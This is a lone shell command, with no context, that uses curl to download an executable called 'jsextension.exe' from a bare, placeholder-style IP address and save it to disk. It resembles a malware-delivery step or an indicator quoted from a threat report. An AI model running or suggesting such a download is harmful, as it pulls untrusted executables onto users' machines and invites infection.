curl http://203.0.113.9/download/jsextension.exe -o jsextension.exe
